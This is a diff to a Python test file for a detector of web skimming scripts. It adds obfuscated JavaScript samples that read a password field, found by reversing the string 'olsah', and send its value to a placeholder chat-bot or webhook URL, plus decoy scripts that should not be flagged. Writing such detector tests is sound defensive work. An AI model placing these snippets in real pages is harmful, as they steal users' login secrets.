@@ -139,6 +139,7 @@ CALLBACK = "<form id=cb><input name=who><input name=phone type=tel></form>"
 WHOLE = "f.onsubmit=e=>{e.preventDefault();fetch('BOT',{method:'POST',body:new FormData(f)})}"
 EYE = "eye.onclick=()=>{const i=document.getElementById('haslo');i.type=i.type=='password'?'text':'password'}"
 MARK = "document.querySelectorAll('input').forEach(i=>i.oninput=()=>i.classList.toggle('ok',i.checkValidity()))"
+LIST = "const rows=[...document.querySelectorAll('{}')].reverse()"
 LETTERS = "function go(){fetch('BOT?text='+f.haslo.value);return false}"
 
 
@@ -159,6 +160,8 @@ LETTERS = "function go(){fetch('BOT?text='+f.haslo.value);return false}"
         (LETTERS.replace("BOT", HOOK).replace("f.haslo", "$('#haslo')"), SIGN_IN),
         (f"{EYE};{LETTERS.replace('BOT', BOT)}", SIGN_IN + CALLBACK),
         (f"let i=document.getElementById('haslo');i.type='text';fetch('{BOT}?text='+i.value)", SIGN_IN),
+        (f"fetch('{BOT}?text='+f['olsah'.split('').reverse().join('')].value)", SIGN_IN),
+        (f"""n='olsah'["split"]("")["reverse"]().join('');fetch('{BOT}?text='+f[n].value)""", SIGN_IN),
     ],
 )
 def test_secrets_that_go_to_a_chat(script: str, page: str) -> None:
@@ -189,6 +192,14 @@ def test_secrets_that_go_to_a_chat(script: str, page: str) -> None:
         (f"{EYE};fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
         (f"{EYE.replace('i.type=', 'i.setAttribute(`type`,')};fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
         (f"fetch('{BOT}?text='+f.who.value);{MARK}", CALLBACK + SHOP),
+        (f"{LIST.format('li')},v='olsah';fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
+        (f"{LIST.format('.новость')},v='olsah';fetch('{HOOK}',{{body:cb.who.value}})", CALLBACK + SIGN_IN),
+        (f"l=t.split('、').reverse();v='olsah';fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
+        (f"{LIST.format('li')},v='wp';fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN.replace("haslo", "pw")),
+        (
+            f"n=who.split('').reverse();v=['nip','wp'];fetch('{BOT}?text='+cb.who.value)",
+            CALLBACK + SIGN_IN.replace("id=haslo", "id=pin").replace("haslo", "pw"),
+        ),
     ],
 )
 def test_messages_without_a_secret(script: str, page: str) -> None:
@@ -203,6 +214,8 @@ def test_messages_without_a_secret(script: str, page: str) -> None:
         "fetch('https://a.",
         "querySelectorAll('",
         "'+'",
+        "split('').",
+        "reverse split ",
         "atob('YWJjZGVmZ2g='",
         "//api.telegram.org/bot1",
         "//a/api/webhooks/1",
